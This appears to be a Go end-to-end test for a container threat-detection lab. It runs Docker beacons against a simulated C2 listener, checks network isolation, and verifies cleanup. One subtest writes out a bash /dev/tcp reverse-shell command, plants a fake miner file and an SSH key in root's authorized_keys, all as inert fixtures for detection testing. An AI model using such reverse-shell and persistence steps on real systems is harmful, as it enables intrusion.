package e2etest

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	cerrdefs "github.com/containerd/errdefs"
	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/api/types/filters"
	"github.com/docker/docker/api/types/network"
	"github.com/vishvananda/netlink"
)

// contactTimeout bounds the wait for a beacon: several intervals, plus the
// first DNS round trip and a loaded machine.
const contactTimeout = 10 * time.Second

func TestScenario(t *testing.T) {
	uplink := startUplinkCapture(t)
	start := time.Now()
	s := NewScenario(t, ScenarioOptions{})
	if d := time.Since(start); d > 30*time.Second {
		t.Errorf("NewScenario took %v, want under 30s", d)
	}

	t.Run("layout", func(t *testing.T) {
		if !s.Subnet.Contains(s.Beacon.IP) || !s.Subnet.Contains(s.Published.IP) {
			t.Errorf("beacon IP %v, published IP %v, want both in %v", s.Beacon.IP, s.Published.IP, s.Subnet)
		}
		if s.Bridge.Network != "bridge" || s.Subnet.Contains(s.Bridge.IP) || !s.Bridge.IP.IsValid() {
			t.Errorf("bridge container on %q with IP %v, want the default bridge outside %v", s.Bridge.Network, s.Bridge.IP, s.Subnet)
		}
		if want := "br-" + s.NetworkID[:12]; s.BridgeName != want {
			t.Errorf("BridgeName = %q, want %q", s.BridgeName, want)
		}
		if _, err := netlink.LinkByName(s.BridgeName); err != nil {
			t.Errorf("bridge %s: %v", s.BridgeName, err)
		}
		ins, err := s.cli.ContainerInspect(context.Background(), s.Stopped.ID)
		if err != nil {
			t.Fatalf("inspect stopped container: %v", err)
		}
		if ins.State.Running || ins.State.Status != "exited" {
			t.Errorf("stopped container state %q, want exited", ins.State.Status)
		}
		if got := len(s.Containers()); got != 4 {
			t.Errorf("len(Containers()) = %d, want 4", got)
		}
		out, err := exec.Command("iptables", "-t", "nat", "-S", "POSTROUTING").CombinedOutput()
		if err != nil {
			t.Fatalf("iptables -t nat -S POSTROUTING: %v: %s", err, out)
		}
		rule := fmt.Sprintf("-A POSTROUTING -s %s ! -o %s -j MASQUERADE", s.Subnet, s.BridgeName)
		if !strings.Contains(string(out), rule) {
			t.Errorf("nat POSTROUTING lacks %q:\n%s", rule, out)
		}
	})

	t.Run("beacons are masqueraded", func(t *testing.T) {
		for _, proto := range []string{"tcp", "udp"} {
			c := s.WaitContact(t, contactTimeout, func(e Event) bool {
				return e.Proto == proto && strings.Contains(e.Data, "name="+s.Beacon.Name+" ")
			})
			if got := c.RemoteAddr().Addr(); got != s.HostAddr {
				t.Errorf("%s beacon source = %v, want the host side of the C2 veth %v (masqueraded)", proto, got, s.HostAddr)
			}
		}
		// No contact may come from a container address: that would mean the
		// MASQUERADE rule did not apply to the C2 link.
		for _, c := range s.Contacts() {
			if a := c.RemoteAddr().Addr(); a != s.HostAddr {
				t.Errorf("C2 contact from %v (%s %q), want only %v", a, c.Proto, c.Data, s.HostAddr)
			}
		}
	})

	t.Run("dns through the C2", func(t *testing.T) {
		s.WaitContact(t, contactTimeout, func(e Event) bool {
			return e.Proto == "dns" && e.Data == "A "+s.Domain+"."
		})
		deadline := time.Now().Add(contactTimeout)
		for {
			var last Event
			for _, e := range s.Events(t, s.Beacon) {
				if e.Kind == "resolve" && e.Data == s.Domain {
					last = e
				}
			}
			if slices.Equal(last.Addrs, []string{s.C2Addr.String()}) {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("beacon resolved %q to %v (err %q), want [%v]", s.Domain, last.Addrs, last.Err, s.C2Addr)
			}
			time.Sleep(100 * time.Millisecond)
		}
	})

	t.Run("published port", func(t *testing.T) {
		if s.Published.HostPort == 0 {
			t.Fatal("published container has no host port")
		}
		url := fmt.Sprintf("http://127.0.0.1:%d/", s.Published.HostPort)
		resp, err := (&http.Client{Timeout: 5 * time.Second}).Get(url)
		if err != nil {
			t.Fatalf("GET %s: %v; container log: %+v", url, err, s.Events(t, s.Published))
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 1024))
		if want := "ok " + s.Published.Name + "\n"; string(body) != want {
			t.Errorf("GET %s = %q, want %q", url, body, want)
		}
	})

	t.Run("StartBeacon", func(t *testing.T) {
		c := s.StartBeacon(t, "extra")
		if !s.Subnet.Contains(c.IP) {
			t.Errorf("extra beacon IP %v, want in %v", c.IP, s.Subnet)
		}
		e := s.WaitContact(t, contactTimeout, func(e Event) bool {
			return e.Proto == "tcp" && strings.Contains(e.Data, "name="+c.Name+" ")
		})
		if got := e.RemoteAddr().Addr(); got != s.HostAddr {
			t.Errorf("extra beacon source = %v, want %v", got, s.HostAddr)
		}
	})

	t.Run("planted files and command line", func(t *testing.T) {
		key := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDceDceDceDceDceDceDceDceDceDceDceDceDceDceDce dce@test"
		shell := []string{"bash", "-i", ">&", "/dev/tcp/" + s.C2Addr.String() + "/4444", "0>&1"}
		cmd := append([]string{"/workload", "-drop", "/tmp/.x/miner", "-write", "/root/.ssh/authorized_keys=" + key}, shell...)
		c := s.StartContainer(t, "planted", ContainerSpec{Cmd: cmd})
		ctx := context.Background()
		changes, err := s.cli.ContainerDiff(ctx, c.ID)
		if err != nil {
			t.Fatalf("diff: %v", err)
		}
		added := map[string]bool{}
		for _, ch := range changes {
			if ch.Kind == container.ChangeAdd {
				added[ch.Path] = true
			}
		}
		for _, p := range []string{"/tmp/.x/miner", "/root/.ssh/authorized_keys"} {
			if !added[p] {
				t.Errorf("docker diff = %+v, want %s added", changes, p)
			}
		}
		ins, err := s.cli.ContainerInspect(ctx, c.ID)
		if err != nil {
			t.Fatalf("inspect: %v", err)
		}
		if !slices.Equal(ins.Args[len(ins.Args)-len(shell):], shell) {
			t.Errorf("container args = %q, want them to end with %q", ins.Args, shell)
		}
		// Positional arguments are ignored: the process runs, and does not
		// connect anywhere.
		time.Sleep(3 * s.Interval)
		for _, e := range s.Contacts() {
			if strings.Contains(e.Data, c.Name) {
				t.Errorf("planted container contacted the C2: %+v", e)
			}
		}
	})

	s.Cleanup()

	t.Run("nothing on the uplink", func(t *testing.T) {
		uplink.check(t, s.Domain)
	})

	t.Run("nothing left", func(t *testing.T) {
		ctx := context.Background()
		out, err := ipCmd("netns", "list")
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(out, s.NetNS) {
			t.Errorf("ip netns list still shows %s:\n%s", s.NetNS, out)
		}
		if _, err := os.Stat(filepath.Join("/var/run/netns", s.NetNS)); err == nil {
			t.Errorf("/var/run/netns/%s still exists", s.NetNS)
		}
		out, err = ipCmd("-o", "link", "show")
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range []string{s.HostVeth, s.BridgeName} {
			if strings.Contains(out, name) {
				t.Errorf("ip link still shows %s", name)
			}
		}
		for _, c := range s.Containers() {
			if _, err := s.cli.ContainerInspect(ctx, c.ID); !cerrdefs.IsNotFound(err) {
				t.Errorf("container %s: inspect error %v, want not found", c.Name, err)
			}
		}
		f := filters.NewArgs(filters.Arg("label", LabelScenario+"="+s.ID))
		cs, err := s.cli.ContainerList(ctx, container.ListOptions{All: true, Filters: f})
		if err != nil || len(cs) != 0 {
			t.Errorf("containers labelled %s=%s: %d (err %v), want 0", LabelScenario, s.ID, len(cs), err)
		}
		if _, err := s.cli.NetworkInspect(ctx, s.NetworkID, network.InspectOptions{}); !cerrdefs.IsNotFound(err) {
			t.Errorf("network %s: inspect error %v, want not found", s.NetworkName, err)
		}
		ns, err := s.cli.NetworkList(ctx, network.ListOptions{Filters: f})
		if err != nil || len(ns) != 0 {
			t.Errorf("networks labelled %s=%s: %d (err %v), want 0", LabelScenario, s.ID, len(ns), err)
		}
		// The listener ran from the scenario's temp dir; a live process with
		// that path in its command line would be it (or its leftover).
		if cmdline, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", s.c2Cmd.Process.Pid)); err == nil &&
			strings.Contains(string(cmdline), s.dir) {
			t.Errorf("C2 listener pid %d still runs", s.c2Cmd.Process.Pid)
		}
		if _, err := os.Stat(s.dir); err == nil {
			t.Errorf("temp dir %s still exists", s.dir)
		}
	})
}

// TestRouteGetFields checks the parser the C2 route assertion relies on.
func TestRouteGetFields(t *testing.T) {
	tests := []struct {
		out      string
		dev, via string
	}{
		{"198.18.5.2 dev dcec2h0a0b0c src 198.18.5.1 uid 0 \n    cache \n", "dcec2h0a0b0c", ""},
		{"198.18.5.2 via 192.0.2.1 dev eth0 src 192.0.2.2 uid 0 \n    cache \n", "eth0", "192.0.2.1"},
		{"", "", ""},
	}
	for _, tt := range tests {
		dev, via := routeGetFields(tt.out)
		if dev != tt.dev || via != tt.via {
			t.Errorf("routeGetFields(%q) = %q, %q, want %q, %q", tt.out, dev, via, tt.dev, tt.via)
		}
	}
}

// uplinkCapture is tcpdump on the interface of the default route, recording
// what the safety rules forbid there: the scenario's 198.18.0.0/15 addresses
// and DNS (a lookup of the C2 domain through the host's resolvers).
type uplinkCapture struct {
	dev  string
	file string
	cmd  *exec.Cmd
}

func startUplinkCapture(t *testing.T) *uplinkCapture {
	t.Helper()
	if os.Geteuid() != 0 {
		skipOrFail(t, "needs root")
	}
	if _, err := exec.LookPath("tcpdump"); err != nil {
		t.Skipf("tcpdump not installed: %v", err)
	}
	routes, err := netlink.RouteList(nil, netlink.FAMILY_V4)
	if err != nil {
		t.Fatalf("list routes: %v", err)
	}
	u := &uplinkCapture{file: filepath.Join(t.TempDir(), "uplink.pcap")}
	for _, r := range routes {
		if r.Dst == nil || r.Dst.IP.IsUnspecified() {
			if l, err := netlink.LinkByIndex(r.LinkIndex); err == nil {
				u.dev = l.Attrs().Name
			}
		}
	}
	if u.dev == "" {
		t.Skip("no default route: no uplink to watch")
	}
	u.cmd = exec.Command("tcpdump", "-i", u.dev, "-n", "-U", "-s", "512", "-w", u.file,
		"net 198.18.0.0/15 or port 53")
	stderr, err := u.cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := u.cmd.Start(); err != nil {
		t.Fatalf("start tcpdump: %v", err)
	}
	t.Cleanup(func() { u.stop() })
	// tcpdump says "listening on" once the socket is bound: before that,
	// packets would be missed.
	sc := bufio.NewScanner(stderr)
	for sc.Scan() {
		if strings.Contains(sc.Text(), "listening on") {
			go io.Copy(io.Discard, stderr)
			return u
		}
	}
	t.Fatalf("tcpdump on %s did not start", u.dev)
	return nil
}

func (u *uplinkCapture) stop() {
	if u.cmd.ProcessState == nil {
		_ = u.cmd.Process.Signal(syscall.SIGINT)
		_ = u.cmd.Wait()
	}
}

// check stops the capture and fails t if the uplink carried an address of
// 198.18.0.0/15 or a DNS message naming domain.
func (u *uplinkCapture) check(t *testing.T, domain string) {
	t.Helper()
	u.stop()
	out, err := exec.Command("tcpdump", "-n", "-r", u.file, "net 198.18.0.0/15").CombinedOutput()
	if err != nil {
		t.Fatalf("tcpdump -r: %v: %s", err, out)
	}
	if lines := pcapLines(out); len(lines) > 0 {
		t.Errorf("uplink %s carried %d packets of 198.18.0.0/15, want none:\n%s", u.dev, len(lines), strings.Join(lines, "\n"))
	}
	pcap, err := os.ReadFile(u.file)
	if err != nil {
		t.Fatal(err)
	}
	if label := dnsWireName(domain); bytes.Contains(bytes.ToLower(pcap), label) {
		t.Errorf("uplink %s carried a DNS message for %q, want none", u.dev, domain)
	}
}

// pcapLines returns tcpdump's packet lines, without its "reading from" note.
func pcapLines(out []byte) []string {
	var lines []string
	for _, l := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		if l != "" && !strings.HasPrefix(l, "reading from") {
			lines = append(lines, l)
		}
	}
	return lines
}

// dnsWireName encodes a name as DNS labels, as it appears in a query.
func dnsWireName(name string) []byte {
	var b []byte
	for _, l := range strings.Split(strings.ToLower(name), ".") {
		b = append(b, byte(len(l)))
		b = append(b, l...)
	}
	return b
}

// failTB records a test's failure instead of failing it, so a test can check
// what happens when the scenario's setup fails half-way.
type failTB struct {
	*testing.T
	mu       sync.Mutex
	cleanups []func()
	fatal    string
}

func (f *failTB) Cleanup(fn func()) { f.mu.Lock(); f.cleanups = append(f.cleanups, fn); f.mu.Unlock() }
func (f *failTB) Fatalf(format string, args ...any) {
	f.mu.Lock()
	f.fatal = fmt.Sprintf(format, args...)
	f.mu.Unlock()
	runtime.Goexit()
}
func (f *failTB) Errorf(format string, args ...any) { f.T.Errorf(format, args...) }

// run calls fn on its own goroutine, as a test would, and then the cleanups
// it registered, last first.
func (f *failTB) run(fn func(testing.TB)) {
	done := make(chan struct{})
	go func() { defer close(done); fn(f) }()
	<-done
	for i := len(f.cleanups) - 1; i >= 0; i-- {
		f.cleanups[i]()
	}
}

// TestScenarioSetupFailureCleansUp makes the C2 listener fail after the
// namespace and veth exist (its UDP beacon port is the DNS port) and checks
// that NewScenario fails and leaves nothing behind.
func TestScenarioSetupFailureCleansUp(t *testing.T) {
	RequireDocker(t)
	f := &failTB{T: t}
	f.run(func(tb testing.TB) {
		NewScenario(tb, ScenarioOptions{UDPPort: dnsPort})
		t.Error("NewScenario returned, want a failure from the C2 listener")
	})
	// The message names the scenario: "scenario <ID>: C2 listener exited: ...".
	id, rest, ok := strings.Cut(strings.TrimPrefix(f.fatal, "scenario "), ": ")
	if !ok || !strings.HasPrefix(rest, "C2 listener exited") {
		t.Fatalf("NewScenario failed with %q, want a C2 listener failure", f.fatal)
	}
	if left := scenarioNames(t, id); len(left) > 0 {
		t.Errorf("after the failed setup of scenario %s: %v left, want nothing", id, left)
	}
	dirs, _ := filepath.Glob(filepath.Join(os.TempDir(), "dce-c2-"+id+"-*"))
	if len(dirs) > 0 {
		t.Errorf("after the failed setup of scenario %s: temp dirs %v left", id, dirs)
	}
}

// scenarioNames lists the namespaces and links whose name holds the
// scenario ID.
func scenarioNames(t *testing.T, id string) []string {
	t.Helper()
	var names []string
	for _, args := range [][]string{{"netns", "list"}, {"-o", "link", "show"}} {
		out, err := ipCmd(args...)
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range strings.Fields(out) {
			if strings.Contains(f, id) {
				names = append(names, f)
			}
		}
	}
	return names
}
